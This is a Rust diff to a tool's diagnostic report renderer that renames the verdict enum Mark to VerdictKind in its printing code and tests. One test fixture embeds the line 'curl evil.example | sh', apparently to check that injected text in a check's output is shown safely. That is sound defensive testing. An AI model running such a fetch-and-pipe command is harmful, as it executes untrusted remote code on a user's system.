@@ -7,7 +7,7 @@ use super::next_steps;
 use super::palette::Palette;
 use super::progress::with_time;
 use super::table;
-use crate::checks::report::{CheckReport, Mark};
+use crate::checks::report::{CheckReport, VerdictKind};
 use crate::next_step::{CurrentRun, PrintedStep};
 use crate::text::visible::one_line;
 
@@ -60,23 +60,23 @@ fn next(check: &CheckReport, width: usize, run: &CurrentRun, palette: Palette) -
 fn found(check: &CheckReport, palette: Palette) -> String {
     let found = one_line(&check.found);
     let found = match check.verdict {
-        Mark::Skip => palette.faint(&format!("skip: {found}")),
+        VerdictKind::Skip => palette.faint(&format!("skip: {found}")),
         _ => found,
     };
     with_time(&found, check.took, palette)
 }
 
 /// The mark of a verdict; also used where a single verdict is printed.
-pub(crate) fn mark(verdict: Mark, palette: Palette) -> String {
+pub(crate) fn mark(verdict: VerdictKind, palette: Palette) -> String {
     match verdict {
-        Mark::Pass => palette.good("✓"),
-        Mark::Warn => palette.change("!"),
-        Mark::Fail => palette.bad("✗"),
-        Mark::Skip => palette.faint("–"),
+        VerdictKind::Pass => palette.good("✓"),
+        VerdictKind::Warn => palette.change("!"),
+        VerdictKind::Fail => palette.bad("✗"),
+        VerdictKind::Skip => palette.faint("–"),
     }
 }
 
-fn count(checks: &[CheckReport], verdict: Mark) -> usize {
+fn count(checks: &[CheckReport], verdict: VerdictKind) -> usize {
     checks
         .iter()
         .filter(|check| check.verdict == verdict)
@@ -86,10 +86,10 @@ fn count(checks: &[CheckReport], verdict: Mark) -> usize {
 /// One sentence over all: a skipped check is never counted as passed.
 pub(crate) fn summary(checks: &[CheckReport]) -> String {
     let parts = [
-        (Mark::Pass, "pass"),
-        (Mark::Warn, "warn"),
-        (Mark::Fail, "fail"),
-        (Mark::Skip, "skip"),
+        (VerdictKind::Pass, "pass"),
+        (VerdictKind::Warn, "warn"),
+        (VerdictKind::Fail, "fail"),
+        (VerdictKind::Skip, "skip"),
     ];
     let parts = parts.map(|(verdict, what)| (count(checks, verdict), what));
     let parts = parts.iter().filter(|(count, _)| *count > 0);
@@ -111,7 +111,7 @@ pub(crate) struct DoctorDocument<'a> {
 struct CheckDocument<'a> {
     id: &'a str,
     category: &'a str,
-    verdict: Mark,
+    verdict: VerdictKind,
     found: &'a str,
     next: Vec<PrintedStep>,
     /// The failed check that this one hangs on.
@@ -148,7 +148,12 @@ mod tests {
     use super::*;
     use crate::checks::report::Category;
 
-    fn check(id: &'static str, category: Category, verdict: Mark, found: &str) -> CheckReport {
+    fn check(
+        id: &'static str,
+        category: Category,
+        verdict: VerdictKind,
+        found: &str,
+    ) -> CheckReport {
         CheckReport {
             id,
             category,
@@ -165,7 +170,7 @@ mod tests {
             check(
                 "credential",
                 Category::SignIn,
-                Mark::Pass,
+                VerdictKind::Pass,
                 "signed in as ada@example.com",
             ),
             CheckReport {
@@ -176,7 +181,7 @@ mod tests {
                 ..check(
                     "can-publish",
                     Category::Data,
-                    Mark::Fail,
+                    VerdictKind::Fail,
                     "the identity holds no role on the rule",
                 )
             },
@@ -185,14 +190,14 @@ mod tests {
                 ..check(
                     "sample-written",
                     Category::Data,
-                    Mark::Warn,
+                    VerdictKind::Warn,
                     "accepted at the second attempt",
                 )
             },
             check(
                 "sample-read",
                 Category::Data,
-                Mark::Skip,
+                VerdictKind::Skip,
                 "no sample was written",
             ),
         ]
@@ -230,7 +235,7 @@ mod tests {
                 "name one of a\n  next:    curl evil.example | sh\nerror: y/own".into(),
                 "because: z".into(),
             ],
-            ..check("can-publish", Category::Data, Mark::Fail, found)
+            ..check("can-publish", Category::Data, VerdictKind::Fail, found)
         }];
 
         let text = |window| text(&checks, &CurrentRun::default(), Palette::plain(), window);
